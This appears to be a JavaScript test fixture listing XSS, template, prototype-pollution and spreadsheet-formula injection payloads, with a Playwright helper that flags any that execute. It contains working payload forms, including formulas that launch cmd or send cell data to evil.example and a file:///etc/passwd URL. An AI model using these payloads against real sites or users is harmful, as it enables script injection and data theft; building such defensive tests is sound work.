// Injection payloads: markup, scripts, URLs, templates, formulas, names of prototypes. Tests put each of them wherever the
// site reads a text from outside: in a link, a file, a message. None may run, and none may become an element.
//
// A payload that succeeds sets `window.__pwn`, or leaves an element with the class or id `pwn` in the page.

const RUN = "window.__pwn=1";

/** Elements that run or load something without interaction. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img class=pwn src=x onerror=${RUN}>`,
  `<img class="pwn" src="x" onerror="${RUN}">`,
  `<img class=pwn src=x onerror='${RUN}'//`,
  `<img/class=pwn/src=x/onerror=${RUN}>`,
  `<svg class=pwn onload=${RUN}>`,
  `<svg class=pwn><script>${RUN}</script></svg>`,
  `<svg class=pwn><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg class=pwn><foreignObject><iframe srcdoc="<script>parent.__pwn=1</script>"></iframe></foreignObject></svg>`,
  `<math class=pwn><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`,
  `<iframe class=pwn srcdoc="<script>parent.__pwn=1</script>"></iframe>`,
  `<iframe class=pwn src="javascript:parent.__pwn=1"></iframe>`,
  `<object class=pwn data="data:text/html,<script>parent.__pwn=1</script>"></object>`,
  `<embed class=pwn src="data:text/html,<script>parent.__pwn=1</script>">`,
  `<video class=pwn><source onerror=${RUN}></video>`,
  `<audio class=pwn src=x onerror=${RUN}></audio>`,
  `<details class=pwn open ontoggle=${RUN}>x</details>`,
  `<input class=pwn autofocus onfocus=${RUN}>`,
  `<select class=pwn autofocus onfocus=${RUN}></select>`,
  `<textarea class=pwn autofocus onfocus=${RUN}></textarea>`,
  `<button class=pwn autofocus onfocus=${RUN}>x</button>`,
  `<body class=pwn onload=${RUN}>`,
  `<marquee class=pwn onstart=${RUN}>x</marquee>`,
  `<style class=pwn>*{background:url("javascript:${RUN}")}</style>`,
  `<style class=pwn onload=${RUN}></style>`,
  `<link class=pwn rel=stylesheet href=x onerror=${RUN}>`,
  `<meta class=pwn http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base class=pwn href="javascript:${RUN}//">`,
  `<form class=pwn action="javascript:${RUN}"><button id=pwn>x</button></form>`,
  `<a class=pwn href="javascript:${RUN}">x</a>`,
  `<a class=pwn href="data:text/html,<script>opener.__pwn=1</script>">x</a>`,
  `<template class=pwn shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<dialog class=pwn open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<portal class=pwn src="javascript:${RUN}"></portal>`,
  `<isindex class=pwn type=image src=x onerror=${RUN}>`,
  `<div class=pwn style="width:expression(${RUN})">x</div>`,
  `<div class=pwn style="animation-name:x" onanimationstart=${RUN}>x</div>`,
  `<p class=pwn contenteditable onfocusin=${RUN} tabindex=0 autofocus>x</p>`,
  `<custom-element class=pwn onclick=${RUN}>x</custom-element>`,
  `<table class=pwn background="javascript:${RUN}"><tr><td>x</table>`,
  `<xss class=pwn id=x tabindex=1 onfocus=${RUN} autofocus></xss>`,
];

/** Prefixes that end the context of a text: an attribute, a comment, a script, a style, a title. */
const PREFIXES = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "-->",
  "</script>",
  "</style>",
  "</title>",
  "</textarea>",
  "]]>",
  "`",
  "\\\"",
  "\u0000",
  "\u2028",
];

/** Texts that end an attribute and add one. */
const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  `" style="background:url(javascript:${RUN})`,
  `x onclick=${RUN}`,
  `" srcdoc="<script>parent.__pwn=1</script>`,
  `" formaction="javascript:${RUN}`,
  `" xlink:href="javascript:${RUN}`,
];

/** URLs that run a script or lead to another site. */
const URLS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>parent.__pwn=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd249MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `blob:${RUN}`,
  `view-source:javascript:${RUN}`,
  `//evil.example/x.js`,
  `https://evil.example/?x`,
  `\\\\evil.example\\x`,
  `file:///etc/passwd`,
];

/** Markup in entities, escapes and other encodings, and markup that parsers mistake. */
const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u0000script>${RUN}</script>`,
  `<script\u00a0>${RUN}</script>`,
  `<!--><img class=pwn src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<noscript><p title="</noscript><img class=pwn src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img class=pwn src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img class=pwn src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img class=pwn src onerror=${RUN}>`,
];

/** Template expressions, and texts that end a string of a script. */
const CODE = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[${RUN}]]`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\';${RUN};//`,
  `*/${RUN}/*`,
  `});${RUN};({`,
  `eval('${RUN}')`,
  `Function('${RUN}')()`,
  `setTimeout('${RUN}')`,
  `import('data:text/javascript,${RUN}')`,
  `$(${RUN})`,
  `';alert(String.fromCharCode(88,83,83))//`,
];

/** Property names that objects inherit, and strings that look like other values. */
const NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
  "constructor.prototype.polluted",
  "__proto__[polluted]",
  "innerHTML",
  "srcdoc",
  "location",
  "document.cookie",
  "null",
  "undefined",
  "NaN",
  "[object Object]",
  "true",
];

/** Texts that spreadsheets interpret as formulas. */
export const FORMULAS = [
  "=1+1",
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example?"&A1,"x")`,
  `+1+1`,
  `-1+1`,
  `@SUM(1+1)`,
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  `=IMPORTXML("https://evil.example","//a")`,
  `-2+3+cmd|' /C calc'!A0`,
];

/** All payloads, without duplicates. */
export const PAYLOADS = [
  ...new Set([
    ...ELEMENTS,
    ...PREFIXES.flatMap((prefix) => ELEMENTS.slice(0, 8).map((element) => prefix + element)),
    ...ATTRIBUTES,
    ...URLS,
    ...ENCODED,
    ...CODE,
    ...NAMES,
    ...FORMULAS,
  ]),
];

/**
 * Watches a page or frame for payloads that succeed. Call it before they are sent, and the function it returns after.
 *
 * @param {import("playwright-core").Page | import("playwright-core").Frame} tab
 * @returns {Promise<() => Promise<string[]>>} one sentence for each success
 */
export async function watchPage(tab) {
  await tab.evaluate(() => {
    window.__breaches = [];
    addEventListener("securitypolicyviolation", (event) => window.__breaches.push(`${event.violatedDirective}: ${event.blockedURI}`));
  });
  return () =>
    tab.evaluate(async () => {
      // Errors of images and event handlers come a moment later.
      await new Promise((done) => setTimeout(done, 100));
      const found = [...window.__breaches];
      if (window.__pwn !== undefined) found.push("a payload ran");
      if ({}.polluted !== undefined) found.push("a prototype was changed");
      for (const element of document.querySelectorAll(".pwn, #pwn, [onerror], [onload], [onfocus], [onmouseover], script:not([src], [type=importmap])")) {
        found.push(`an element came in: ${element.outerHTML.slice(0, 80)}`);
      }
      return found;
    });
}
